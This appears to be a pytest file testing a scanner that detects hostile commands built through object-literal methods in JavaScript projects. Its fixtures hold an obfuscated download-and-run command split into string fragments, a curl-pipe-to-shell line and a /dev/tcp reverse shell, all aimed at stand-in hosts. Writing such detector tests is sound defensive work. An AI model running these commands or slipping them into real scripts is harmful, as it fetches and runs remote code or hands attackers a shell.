"""Functions an object literal holds (``{ build: () => … }``, ``{ build() { … } }``), called through
the object in the same file or through another module's exports, are followed as named functions
are (DOWNLOAD_AND_RUN). Hosts are ``.invalid``."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import scan_errors

_PIECES = 'module.exports = {\n  bits: ["wg", "et -qO- http", "s://fonts.cdn-ui.invalid/", "w | ba", "sh"],\n};\n'


@pytest.mark.parametrize(
    "files",
    [
        {
            "scripts/lib/bits.js": _PIECES,
            "scripts/lib/make.js": 'const { bits } = require("./bits");\n'
            'module.exports = { line: () => bits.join("") };\n',
            "scripts/run.js": 'const { execSync } = require("child_process");\n'
            'const { line } = require("./lib/make");\nexecSync(line());\n',
        },
        {
            "scripts/lib/bits.js": _PIECES,
            "scripts/lib/make.js": 'const { bits } = require("./bits");\n'
            'module.exports = {\n  line() {\n    return bits.join("");\n  },\n};\n',
            "scripts/run.js": 'const cp = require("child_process");\nconst make = require("./lib/make");\n'
            "cp.spawnSync(make.line(), { shell: true });\n",
        },
        {
            "scripts/run.js": 'const { exec } = require("child_process");\n'
            'const bits = ["wg", "et -qO- http", "s://fonts.cdn-ui.invalid/", "w | ba", "sh"];\n'
            'const helpers = { line: () => bits.join("") };\nexec(helpers.line());\n',
        },
    ],
)
def test_a_command_built_by_an_object_method(tmp_path: Path, files: dict[str, str]) -> None:
    assert any(rule == "DOWNLOAD_AND_RUN" for rule, _, _ in scan_errors(tmp_path / "s", files))


def test_an_object_method_building_a_local_command_runs_nothing(tmp_path: Path) -> None:
    files = {
        "scripts/lib/make.js": 'module.exports = { line: (out) => ["npx", "tailwindcss", "-o", out].join(" ") };\n',
        "scripts/run.js": 'const { exec } = require("child_process");\nconst { line } = require("./lib/make");\n'
        'exec(line("dist/site.css"));\n',
    }
    assert not any(rule == "DOWNLOAD_AND_RUN" for rule, _, _ in scan_errors(tmp_path / "s", files))


@pytest.mark.parametrize(
    ("files", "rule"),
    [
        (  # a method's shorthand body reads the command from its own object
            {
                "test/cases.mjs": 'import { execSync } from "node:child_process";\n'
                "export default [\n  {\n"
                '    name: "fonts",\n    line: "curl -fsSL https://fonts.cdn-ui.invalid/i.sh | sh",\n'
                "    check() {\n      return execSync(this.line).toString();\n    },\n  },\n];\n",
            },
            "DOWNLOAD_AND_RUN",
        ),
        (  # a function held under a key, its command spawned from an arrow inside it
            {
                "scripts/warm.js": 'const cp = require("child_process");\n'
                "const job = {\n"
                '  argv: ["-c", "sh -i >& /dev/tcp/198.51.100.23/9001 0>&1"],\n'
                "  start: function () {\n"
                '    setTimeout(() => cp.spawn("bash", this.argv, { detached: true }), 10);\n'
                "  },\n};\nmodule.exports = job;\n",
            },
            "REMOTE_SHELL",
        ),
    ],
)
def test_this_in_an_object_literals_method_is_that_object(tmp_path: Path, files: dict[str, str], rule: str) -> None:
    assert any(found == rule for found, _, _ in scan_errors(tmp_path / "s", files))


def test_this_naming_a_local_command_runs_nothing(tmp_path: Path) -> None:
    files = {
        "test/cases.js": 'const { execSync } = require("child_process");\n'
        'module.exports = [{ line: "npx tsc --noEmit", check() { return execSync(this.line).toString(); } }];\n',
    }
    assert scan_errors(tmp_path / "s", files) == set()
